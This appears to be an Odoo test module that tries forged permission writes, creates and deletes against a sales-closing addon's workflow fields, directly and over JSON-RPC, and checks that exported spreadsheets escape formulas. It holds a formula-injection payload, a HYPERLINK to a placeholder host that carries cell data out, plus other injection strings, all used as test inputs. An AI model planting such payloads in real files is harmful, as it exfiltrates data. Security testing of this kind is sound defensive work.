"""Attacks on the closing controls as the server sees them (issue #19).

Every model of the addon that lists workflow-owned fields in
``_sales_closing_workflow_fields`` is found in the registry, so a field added
to such a list (or a new model with one) is attacked the day it appears: each
closing group, Odoo's salesman, a portal user and the public user try to
write and create it, with and without the context keys a caller can set, and
to delete the record; every attempt must be refused.  Then each exploit of
the issue is replayed as its story, and one forged write per model goes
through a real JSON-RPC call to a running server.
"""

import io
from datetime import date, datetime

import openpyxl

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import (
    HttpCase,
    JsonRpcException,
    TransactionCase,
    new_test_user,
    tagged,
)

from ..engine import xlsx_table

# contexts a caller may send: none, and at once the key the old guard
# trusted with others that look like permissions
CONTEXTS = (
    {},
    {
        "sales_closing_decision": True,
        "sales_closing_workflow": True,
        "install_mode": True,
        "tracking_disable": True,
        "import_file": True,
        "module": "sales_closing",
    },
)
# AccessError and ValidationError are UserErrors: any refusal of the server
REFUSED = UserError
FORMULA = '=HYPERLINK("http://x/?"&B9,"Open")'
# models whose records may be deleted in Odoo's own flows (a draft quotation;
# a company, by the settings administrators only)
# Odoo's own rules decide who deletes these (a draft invoice, a company)
UNLINK_ALLOWED = {"sale.order", "res.company", "account.move"}


class ControlsFixture:
    """A record of every controlled model and a user of every kind."""

    @classmethod
    def _setup_controls(cls):
        env = cls.env
        cls.company = env.company
        cls.other_company = env["res.company"].create({"name": "Controls Other Co"})
        companies = [Command.set((cls.company | cls.other_company).ids)]

        def user(login, groups, **kw):
            return new_test_user(env, login, groups=groups, **kw)

        cls.closing_user = user(
            "ctl_user", "sales_closing.group_closing_user", company_ids=companies
        )
        cls.accountant = user(
            "ctl_accountant",
            "sales_closing.group_closing_accountant",
            company_ids=companies,
        )
        cls.manager = user(
            "ctl_manager", "sales_closing.group_closing_manager", company_ids=companies
        )
        cls.auditor = user("ctl_auditor", "sales_closing.group_closing_auditor")
        cls.salesman = user("ctl_salesman", "sales_team.group_sale_salesman")
        cls.portal = user("ctl_portal", "base.group_portal")
        cls.public = env.ref("base.public_user")
        # a settings administrator: may write companies, not their chain head
        cls.sysadmin = user(
            "ctl_sysadmin", "base.group_system,sales_closing.group_closing_manager"
        )
        cls.attackers = (
            cls.closing_user,
            cls.accountant,
            cls.manager,
            cls.auditor,
            cls.salesman,
            cls.portal,
            cls.public,
        )
        cls.customer = env["res.partner"].create(
            {"name": "Controls Customer", "is_company": True, "email": "c@example.com"}
        )
        cls.product = env["product.product"].create(
            {"name": "Controls Service", "type": "service", "list_price": 100.0}
        )
        # one quotation per internal attacker, of which they are the salesperson
        cls.orders = {}
        for attacker in cls.attackers:
            salesperson = attacker if not attacker.share else cls.closing_user
            cls.orders[attacker] = env["sale.order"].create(
                {
                    "partner_id": cls.customer.id,
                    "user_id": salesperson.id,
                    "order_line": [
                        Command.create(
                            {"product_id": cls.product.id, "product_uom_qty": 1}
                        )
                    ],
                }
            )
        cls.order = cls.orders[cls.closing_user]
        cls.violation = env["sales.closing.order.violation"].create(
            {
                "order_id": cls.order.id,
                "line_id": cls.order.order_line.id,
                "rule": "max_discount",
                "value": 25.0,
                "limit": 10.0,
                "message": "Discount 25 % above 10 %",
            }
        )
        cls.Period = env["sales.closing.period"]
        cls.period = cls.Period.create(
            {
                "name": "CTL 2026-01",
                "date_from": date(2026, 1, 1),
                "date_to": date(2026, 1, 31),
                "user_id": cls.accountant.id,
            }
        )
        cls.other_period = cls.Period.create(
            {
                "name": "CTL 2026-02",
                "date_from": date(2026, 2, 1),
                "date_to": date(2026, 2, 28),
            }
        )
        cls.kind = env["sales.closing.check.kind"].create(
            {"name": "Controls task", "code": "controls_task", "is_manual": True}
        )
        cls.line = env["sales.closing.check.line"].create(
            {
                "period_id": cls.period.id,
                "kind_id": cls.kind.id,
                "user_id": cls.closing_user.id,
                "reviewer_id": cls.manager.id,
                "status": "failed",
                "count": 3,
            }
        )
        cls.flux = env["sales.closing.flux.line"].create(
            {
                "period_id": cls.period.id,
                "dimension": "revenue",
                "name": "Revenue",
                "key": "1",
                "current": 5000.0,
                "previous": 1000.0,
                "var_prev": 4000.0,
                "var_prev_pct": 400.0,
                "needs_explanation": True,
            }
        )
        cls.period.state = "in_progress"
        cls.statement = env["sales.closing.statement"].create(
            {
                "partner_id": cls.customer.id,
                "date_from": date(2026, 1, 1),
                "date_to": date(2026, 1, 31),
                "user_id": cls.closing_user.id,
                "state": "sent",
                "closing_balance": 250.0,
                "line_ids": [
                    Command.create(
                        {
                            "date": date(2026, 1, 10),
                            "name": "INV/2026/00001",
                            "kind": "invoice",
                            "debit": 250.0,
                            "balance": 250.0,
                        }
                    )
                ],
            }
        )
        cls.package = env["sales.closing.package"].create(
            {
                "period_id": cls.other_period.id,
                "company_id": cls.company.id,
                "date_from": cls.other_period.date_from,
                "version": 1,
                "snapshot": "{}",
            }
        )
        # e-fapiao (issue #20): an invoice and a red-letter form of it
        cls.fapiao_invoice = env["account.move"].create(
            {
                "move_type": "out_invoice",
                "partner_id": cls.customer.id,
                "invoice_line_ids": [
                    Command.create({"name": "Fapiao line", "price_unit": 100.0})
                ],
            }
        )
        cls.red_form = env["sales.closing.fapiao.red"].create(
            {
                "company_id": cls.company.id,
                "move_id": cls.fapiao_invoice.id,
                "reason": "01",
            }
        )
        cls.records = {
            "account.move": cls.fapiao_invoice,
            "sales.closing.fapiao.red": cls.red_form,
            "sale.order": cls.order,
            "sales.closing.order.violation": cls.violation,
            "sales.closing.check.line": cls.line,
            "sales.closing.flux.line": cls.flux,
            "sales.closing.period": cls.period,
            "sales.closing.statement": cls.statement,
            "sales.closing.statement.line": cls.statement.line_ids,
            "sales.closing.package": cls.package,
            "res.company": cls.company,
        }
        # the least a create needs besides the attacked field
        cls.create_values = {
            "account.move": {
                "move_type": "out_invoice",
                "partner_id": cls.customer.id,
            },
            "sales.closing.fapiao.red": {
                "company_id": cls.company.id,
                "reason": "01",
            },
            "sale.order": {"partner_id": cls.customer.id},
            "sales.closing.order.violation": {
                "order_id": cls.order.id,
                "rule": "max_discount",
            },
            "sales.closing.check.line": {
                "period_id": cls.period.id,
                "kind_id": cls.kind.id,
            },
            "sales.closing.flux.line": {
                "period_id": cls.period.id,
                "dimension": "revenue",
                "name": "Forged",
                "key": "forged",
            },
            "sales.closing.period": {
                "name": "CTL 2031-01",
                "date_from": date(2031, 1, 1),
                "date_to": date(2031, 1, 31),
            },
            "sales.closing.statement": {
                "partner_id": cls.customer.id,
                "date_from": date(2026, 1, 1),
                "date_to": date(2026, 1, 31),
            },
            "sales.closing.statement.line": {
                "statement_id": cls.statement.id,
                "date": date(2026, 1, 1),
                "kind": "invoice",
            },
            "sales.closing.package": {
                "period_id": cls.period.id,
                "company_id": cls.company.id,
                "date_from": cls.period.date_from,
            },
            "res.company": {"name": "Forged Co"},
        }

    @classmethod
    def _controlled_models(cls):
        """``{model: workflow fields}`` of every model that declares them."""
        return {
            name: frozenset(model_cls._sales_closing_workflow_fields)
            for name, model_cls in cls.env.registry.items()
            if getattr(model_cls, "_sales_closing_workflow_fields", None)
        }

    def _record(self, model, attacker):
        if model == "sale.order":
            return self.orders[attacker]
        return self.records[model]

    def _forged_value(self, record, fname):
        """A value of ``fname`` other than the record's, as a caller would send."""
        field = record._fields[fname]
        current = record.sudo()[fname]
        if field.type == "many2one":
            if field.comodel_name == "res.users":
                return self.manager.id
            if field.comodel_name == "res.company":
                return self.other_company.id
            other = (
                self.env[field.comodel_name]
                .sudo()
                .search([("id", "!=", current.id)], limit=1)
            )
            return other.id
        if field.type in ("one2many", "many2many"):
            return [Command.clear()]
        if field.type == "selection":
            values = [value for value, __ in field._description_selection(self.env)]
            return next(value for value in values if value != current)
        if field.type == "boolean":
            return not current
        if field.type in ("char", "text", "html"):
            return "forged"
        if field.type in ("integer", "float", "monetary"):
            return (current or 0) + 7
        if field.type == "date":
            return date(2025, 12, 1)
        if field.type == "datetime":
            return fields.Datetime.now()
        raise AssertionError(f"No forged value for {record._name}.{fname}")


@tagged("post_install", "-at_install")
class TestSecurityControls(ControlsFixture, TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._setup_controls()

    # ------------------------------------------------------------------
    # Every workflow-owned field, listed from the models
    # ------------------------------------------------------------------
    def test_every_controlled_model_has_a_fixture(self):
        controlled = self._controlled_models()
        # the models of issue #19 declare their workflow fields...
        self.assertLessEqual(set(self.records), set(controlled))
        self.assertIn("sales_closing_credit_override", controlled["sale.order"])
        self.assertIn("status", controlled["sales.closing.check.line"])
        self.assertIn("state", controlled["sales.closing.period"])
        self.assertIn("answered_by", controlled["sales.closing.statement"])
        self.assertIn("sales_closing_package_head_hash", controlled["res.company"])
        # ...and a model of the addon declaring some is attacked below: it
        # needs its record here (the other addons test their own models)
        ours = {
            name
            for name in controlled
            if self.env[name]._original_module == "sales_closing"
            or name in ("sale.order", "res.company", "account.move")
        }
        self.assertEqual(ours - set(self.records), set())

    def test_workflow_fields_refused_to_every_user(self):
        tries = 0
        for model in self.records:
            fnames = self._controlled_models()[model]
            for fname in sorted(fnames):
                values = {}
                for attacker in self.attackers:
                    record = self._record(model, attacker)
                    if record not in values:
                        values[record] = (
                            self._forged_value(record, fname),
                            record.sudo()[fname],
                        )
                    value, before = values[record]
                    for context in CONTEXTS:
                        label = f"{model}.{fname} by {attacker.login} {context}"
                        with self.subTest(label, op="write"):
                            with self.assertRaises(REFUSED):
                                record.with_user(attacker).with_context(
                                    **context
                                ).write({fname: value})
                        with self.subTest(label, op="create"):
                            with self.assertRaises(REFUSED):
                                self.env[model].with_user(attacker).with_context(
                                    **context
                                ).create({**self.create_values[model], fname: value})
                        tries += 2
                self.env.invalidate_all()
                for record, (__, before) in values.items():
                    self.assertEqual(record.sudo()[fname], before, label)
        self.assertGreater(tries, 500)

    def test_controlled_records_cannot_be_deleted(self):
        for model, record in self.records.items():
            if model in UNLINK_ALLOWED:
                continue
            for attacker in self.attackers:
                for context in CONTEXTS:
                    with self.subTest(model=model, user=attacker.login, ctx=context):
                        with self.assertRaises(REFUSED):
                            record.with_user(attacker).with_context(**context).unlink()
            self.assertTrue(record.exists(), model)

    def test_guard_is_the_refusal_not_only_the_access_rights(self):
        # the users below may write these records: only the guard refuses
        self.order.with_user(self.closing_user).write({"note": "allowed"})
        self.line.with_user(self.closing_user).write({"comment": "allowed"})
        self.flux.with_user(self.accountant).write({"explanation": "allowed"})
        self.period.with_user(self.accountant).write({"deadline": date(2026, 2, 9)})
        self.statement.with_user(self.accountant).write({"user_id": self.manager.id})
        self.assertEqual(self.flux.explanation, "allowed")
        with self.assertRaisesRegex(AccessError, "workflow buttons only"):
            self.order.with_user(self.closing_user).write(
                {"sales_closing_approval_state": "approved"}
            )
        with self.assertRaisesRegex(AccessError, "workflow buttons only"):
            self.statement.with_user(self.manager).write({"state": "confirmed"})

    # ------------------------------------------------------------------
    # 1. Approval and credit override of sales orders
    # ------------------------------------------------------------------
    def test_salesman_cannot_forge_credit_override_and_confirm(self):
        self.company.sales_closing_credit_block = True
        self.customer.credit_limit = 10.0
        order = self.order.with_user(self.closing_user)
        with self.assertRaises(AccessError):
            order.with_context(sales_closing_decision=True).write(
                {
                    "sales_closing_credit_override": True,
                    "sales_closing_override_reason": "manager said ok",
                    "sales_closing_override_user_id": self.manager.id,
                    "sales_closing_override_date": fields.Datetime.now(),
                }
            )
        with self.assertRaisesRegex(UserError, "above the credit limit"):
            order.action_confirm()
        self.assertEqual(self.order.state, "draft")
        self.assertFalse(
            self.order.message_ids.filtered(lambda m: "override" in (m.body or ""))
        )
        # the manager's override (the workflow) still works, once
        self.order.with_user(self.manager)._sales_closing_set_override("agreed")
        order.action_confirm()
        self.assertEqual(self.order.state, "sale")
        self.assertFalse(self.order.sales_closing_credit_override)
        self.assertEqual(self.order.sales_closing_override_user_id, self.manager)

    def test_salesman_cannot_forge_approval(self):
        self.company.sales_closing_max_discount = 10
        self.order.order_line.discount = 25
        order = self.order.with_user(self.closing_user)
        order.action_confirm()
        self.assertEqual(self.order.sales_closing_approval_state, "to_approve")
        pending = self.order.sales_closing_violation_ids.filtered(
            lambda v: v.state == "pending"
        )
        self.assertTrue(pending)
        for context in CONTEXTS:
            with self.assertRaises(AccessError):
                order.with_context(**context).write(
                    {"sales_closing_approval_state": "approved"}
                )
            # self-approving the violation is refused too, even to a manager
            for user in (self.closing_user, self.manager):
                with self.assertRaises(REFUSED):
                    pending.with_user(user).with_context(**context).write(
                        {"state": "approved", "decision_user_id": self.manager.id}
                    )
            # nor is an approved violation slipped in through the order
            with self.assertRaises(REFUSED):
                order.with_context(**context).write(
                    {
                        "sales_closing_violation_ids": [
                            Command.create(
                                {
                                    "rule": "max_discount",
                                    "line_id": self.order.order_line.id,
                                    "value": 25.0,
                                    "state": "approved",
                                }
                            )
                        ]
                    }
                )
        order.action_confirm()
        self.assertEqual(self.order.state, "draft")
        with self.assertRaises(AccessError):
            order._sales_closing_decide("approved", "self")
        self.order.with_user(self.manager)._sales_closing_decide("approved", "ok")
        self.assertEqual(self.order.state, "sale")

    # ------------------------------------------------------------------
    # 2. Checklist items and flux lines
    # ------------------------------------------------------------------
    def test_closing_user_cannot_waive_or_drop_reviewer_or_forge_signoff(self):
        line = self.line.with_user(self.closing_user)
        for vals in (
            {"status": "waived"},
            {"status": "ok"},
            {"severity": "warning"},
            {"reviewer_id": False},
            {"waiver_reason": "because"},
            {"prepared_by_id": self.manager.id},
            {"reviewed_by_id": self.manager.id},
        ):
            for context in CONTEXTS:
                with self.subTest(vals=vals, ctx=context):
                    with self.assertRaises(AccessError):
                        line.with_context(**context).write(vals)
        self.assertEqual(self.line.status, "failed")
        self.assertEqual(self.line.reviewer_id, self.manager)
        # an accountant may not set the managers' fields either
        with self.assertRaises(AccessError):
            self.line.with_user(self.accountant).write({"severity": "warning"})

    def test_manager_fields_and_waiver_workflow(self):
        line = self.line.with_user(self.manager)
        line.write({"severity": "warning", "waiver_reason": "known issue"})
        line.write({"severity": "blocking"})
        line.action_waive()
        self.assertEqual(self.line.status, "waived")
        # the reason of a waiver is frozen, even for a manager
        with self.assertRaisesRegex(UserError, "waived check"):
            line.write({"waiver_reason": "another reason"})
        # a closed period's checklist cannot change at all
        self.period.sudo().state = "closed"
        with self.assertRaisesRegex(UserError, "is closed"):
            line.write({"severity": "warning"})
        with self.assertRaisesRegex(UserError, "is closed"):
            self.line.with_user(self.closing_user).write({"comment": "late"})

    def test_signoffs_through_their_buttons(self):
        self.line.sudo().write({"status": "ok"})
        with self.assertRaises(AccessError):
            self.line.with_user(self.accountant).action_sign_prepare()
        self.line.with_user(self.closing_user).action_sign_prepare()
        self.assertEqual(self.line.prepared_by_id, self.closing_user)
        with self.assertRaises(AccessError):
            self.line.with_user(self.accountant).action_sign_review()
        self.line.with_user(self.manager).action_sign_review()
        self.assertEqual(self.line.reviewed_by_id, self.manager)

    def test_mark_done_only_by_responsible_or_accountant(self):
        other = new_test_user(
            self.env, "ctl_user2", groups="sales_closing.group_closing_user"
        )
        self.line.sudo().write({"status": "pending", "user_id": other.id})
        with self.assertRaises(AccessError):
            self.line.with_user(self.closing_user).action_mark_done()
        self.line.with_user(other).action_mark_done()
        self.assertEqual(self.line.status, "ok")

    def test_accountant_cannot_delete_or_clear_flux_lines(self):
        flux = self.flux.with_user(self.accountant)
        with self.assertRaises(AccessError):
            flux.unlink()
        with self.assertRaises(AccessError):
            flux.write({"needs_explanation": False})
        # blank text is no explanation: the variance still blocks the close
        flux.write({"explanation": "   "})
        self.assertFalse(self.flux.explanation)
        reasons = self.period._close_blockers()
        self.assertTrue(any("needs an explanation" in r for r in reasons), reasons)
        flux.write({"explanation": "A new customer ordered in January."})
        reasons = self.period._close_blockers()
        self.assertFalse(any("needs an explanation" in r for r in reasons), reasons)
        self.period.sudo().state = "closed"
        with self.assertRaisesRegex(UserError, "is closed"):
            flux.write({"explanation": "rewritten after the close"})

    # ------------------------------------------------------------------
    # 3. Periods
    # ------------------------------------------------------------------
    def test_accountant_cannot_set_period_state_or_reopening(self):
        period = self.period.with_user(self.accountant)
        self.period.sudo().state = "closed"
        for vals in (
            {"state": "draft"},
            {"state": "reopened", "reopen_user_id": self.accountant.id},
            {"reopen_end_datetime": datetime(2099, 1, 1)},
        ):
            for user in (self.accountant, self.manager):
                with self.assertRaises(AccessError):
                    period.with_user(user).write(vals)
        self.assertEqual(self.period.state, "closed")
        # and a period is not set closed without package or locks
        with self.assertRaises(AccessError):
            self.other_period.with_user(self.manager).write({"state": "closed"})
        with self.assertRaises(AccessError):
            self.Period.with_user(self.accountant).create(
                {
                    "name": "Forged",
                    "date_from": date(2032, 1, 1),
                    "date_to": date(2032, 1, 31),
                    "state": "closed",
                }
            )
        # a closed period is not deleted either
        with self.assertRaisesRegex(UserError, "draft"):
            self.period.with_user(self.manager).unlink()

    def test_period_dates_frozen_once_started(self):
        for vals in (
            {"date_to": date(2026, 1, 15)},
            {"date_from": date(2025, 12, 1)},
            {"company_id": self.other_company.id},
            {"kind": "quarter"},
        ):
            with self.assertRaises(AccessError):
                self.period.with_user(self.accountant).write(vals)
        # a draft period without checklist is still set up freely
        self.other_period.with_user(self.accountant).write(
            {"date_to": date(2026, 2, 27)}
        )
        self.assertEqual(self.other_period.date_to, date(2026, 2, 27))

    # ------------------------------------------------------------------
    # 4. Statements
    # ------------------------------------------------------------------
    def test_accountant_cannot_forge_customer_confirmation(self):
        for vals in (
            {"state": "confirmed"},
            {"answer_date": fields.Datetime.now()},
            {"answered_by": "Customer (1.2.3.4)"},
            {"dispute_comment": False},
        ):
            for user in (self.accountant, self.manager):
                with self.assertRaises(AccessError):
                    self.statement.with_user(user).write(vals)
        self.assertEqual(self.statement.state, "sent")
        # the customer's answer goes through the token-checked workflow
        error = self.statement.sudo()._portal_answer(
            "confirmed", answered_by="Controls Customer (127.0.0.1)"
        )
        self.assertFalse(error)
        self.assertEqual(self.statement.state, "confirmed")
        # which an internal user cannot call on their own record
        self.statement.sudo().state = "sent"
        with self.assertRaises(AccessError):
            self.statement.with_user(self.accountant)._portal_answer(
                "confirmed", answered_by="forged"
            )
        # a statement that was sent is closing evidence: not deleted
        with self.assertRaisesRegex(UserError, "evidence"):
            self.statement.with_user(self.manager).unlink()

    def test_statement_buttons_still_work_for_accountants(self):
        stmt = self.statement.with_user(self.accountant)
        stmt.action_reset_draft()
        self.assertEqual(self.statement.state, "draft")
        stmt.action_send()
        self.assertEqual(self.statement.state, "sent")
        with self.assertRaises(AccessError):
            self.statement.with_user(self.closing_user).action_send()

    # ------------------------------------------------------------------
    # 7. Spreadsheets: user text is never a formula
    # ------------------------------------------------------------------
    def _formula_cells(self, content):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and FORMULA in cell.value
        ]

    def test_statement_xlsx_writes_names_as_text(self):
        self.customer.name = FORMULA
        self.statement.line_ids.sudo().ref = FORMULA
        cells = self._formula_cells(self.statement._xlsx_content())
        self.assertEqual(len(cells), 2)
        for cell in cells:
            self.assertEqual(cell.data_type, "s")
            self.assertEqual(cell.value, "'" + FORMULA)

    def test_report_xlsx_writes_text_as_text(self):
        content = xlsx_table.workbook(
            [
                {
                    "title": "By Customer",
                    "heading": "@SUM(A1)",
                    "columns": [("Customer", "text"), ("Due", "money")],
                    "rows": [[FORMULA, 10.0], ["-2+3", 1.0], ["\tcmd", 2.0]],
                }
            ]
        )
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        self.assertEqual(sheet["A1"].value, "'@SUM(A1)")
        self.assertEqual(sheet["A4"].value, "'" + FORMULA)
        self.assertEqual(sheet["A5"].value, "'-2+3")
        self.assertEqual(sheet["A6"].value, "'\tcmd")
        for ref in ("A1", "A4", "A5", "A6"):
            self.assertEqual(sheet[ref].data_type, "s")
        self.assertEqual(sheet["B4"].value, 10.0)

    # ------------------------------------------------------------------
    # 9. Customer exposure and invoicing automation on the partner
    # ------------------------------------------------------------------
    def test_partner_exposure_and_invoice_policy_groups(self):
        # everybody here may edit contacts: only the field's groups refuse
        editors = self.env.ref("base.group_partner_manager")
        for user in (self.closing_user, self.salesman, self.accountant):
            user.groups_id = [Command.link(editors.id)]
        self.customer.with_user(self.salesman).write({"comment": "allowed"})
        for user in (self.closing_user, self.salesman):
            with self.assertRaises(AccessError):
                self.customer.with_user(user).read(["sales_closing_exposure"])
            with self.assertRaises(AccessError):
                self.customer.with_user(user).write(
                    {"sales_closing_invoice_policy": "confirm"}
                )
        self.customer.with_user(self.auditor).read(["sales_closing_exposure"])
        self.customer.with_user(self.accountant).write(
            {"sales_closing_invoice_policy": "confirm"}
        )
        self.assertEqual(self.customer.sales_closing_invoice_policy, "confirm")
        # the salesperson still confirms an order of that customer, under it
        order = self.order.with_user(self.closing_user)
        self.assertEqual(order.sales_closing_invoice_policy, "confirm")
        order.action_confirm()
        self.assertEqual(self.order.state, "sale")


@tagged("post_install", "-at_install")
class TestSecurityControlsJsonRpc(ControlsFixture, HttpCase):
    """The same forgeries sent to a running server through JSON-RPC."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._setup_controls()

    def _call(self, user, model, method, args, context=None):
        self.authenticate(user.login, user.login)
        return self.make_jsonrpc_request(
            f"/web/dataset/call_kw/{model}/{method}",
            {
                "model": model,
                "method": method,
                "args": args,
                "kwargs": {"context": context or {}},
            },
        )

    def _assert_refused(self, user, record, vals, context=None):
        before = {name: record.sudo()[name] for name in vals}
        with self.assertRaises(JsonRpcException) as caught:
            self._call(user, record._name, "write", [record.ids, vals], context)
        self.assertIn("AccessError", str(caught.exception))
        self.env.invalidate_all()
        for name, value in before.items():
            self.assertEqual(record.sudo()[name], value, name)

    def test_forged_writes_over_jsonrpc(self):
        decision = {"sales_closing_decision": True}
        cases = [
            (
                self.closing_user,
                self.order,
                {
                    "sales_closing_credit_override": True,
                    "sales_closing_override_user_id": self.manager.id,
                    "sales_closing_override_reason": "forged",
                },
            ),
            (self.manager, self.violation, {"state": "approved"}),
            (self.closing_user, self.line, {"status": "waived"}),
            (self.accountant, self.flux, {"needs_explanation": False}),
            (self.accountant, self.period, {"state": "closed"}),
            (self.accountant, self.statement, {"state": "confirmed"}),
            (self.manager, self.statement.line_ids, {"debit": 1.0}),
            (self.manager, self.package, {"verify_state": "ok"}),
            (self.sysadmin, self.company, {"sales_closing_package_head_hash": "0"}),
            (
                self.accountant,
                self.fapiao_invoice,
                {"sales_closing_fapiao_state": "issued"},
            ),
            (self.accountant, self.red_form, {"red_number": "9" * 20}),
        ]
        self.assertEqual({case[1]._name for case in cases}, set(self.records))
        for user, record, vals in cases:
            with self.subTest(model=record._name, user=user.login):
                self._assert_refused(user, record, vals, decision)
        # and the user's allowed write goes through: the refusal is the guard
        self._call(
            self.accountant,
            "sales.closing.flux.line",
            "write",
            [self.flux.ids, {"explanation": "over JSON-RPC"}],
        )
        self.env.invalidate_all()
        self.assertEqual(self.flux.explanation, "over JSON-RPC")
